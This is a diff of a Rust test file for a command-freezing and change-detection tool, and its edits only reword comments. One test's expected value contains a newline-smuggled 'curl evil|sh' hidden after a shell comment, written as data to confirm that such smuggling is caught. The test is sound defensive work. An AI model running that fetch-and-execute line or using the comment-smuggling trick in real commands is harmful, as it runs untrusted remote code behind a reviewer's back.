@@ -1,4 +1,4 @@
-//! What a command is frozen to, and what changes it.
+//! Tests of freezing a command and of detecting changes to it.
 
 use super::*;
 use crate::limits::DIGESTED_BYTES;
@@ -105,7 +105,7 @@ fn an_argument_that_was_written_anew_is_another_command() {
     }
 }
 
-/// Regression: of a file of more than 16 MiB, what came after its beginning could be exchanged.
+/// Regression: in a file of more than 16 MiB, everything after the digested beginning could be replaced.
 #[test]
 fn the_end_of_a_long_file_is_part_of_the_command() {
     use std::io::{Seek as _, SeekFrom, Write as _};
@@ -157,7 +157,7 @@ fn a_shell_line_never_looks_like_a_comment() {
     assert_eq!(frozen.title(), r"/bin/sh -c $'make # ok\n'\ $'curl evil|sh'");
 }
 
-/// Every file that a command may run is part of it, however the command gets there.
+/// Every file that a command may run is part of it, however the command refers to it.
 #[test]
 fn a_file_is_part_of_a_command_wherever_it_is_named() {
     let rows = [
@@ -219,7 +219,7 @@ fn a_file_is_part_of_a_command_wherever_it_is_named() {
         write("echo good\n");
         let workspace = Workspace::open_for(&root, None).unwrap();
         let Ok(frozen) = freeze(&request(value.clone()), &workspace, &path) else {
-            // A program that this machine lacks.
+            // This machine lacks the program.
             continue;
         };
         assert!(frozen.is_unchanged(&root) && !frozen.may_stand(), "{value}");
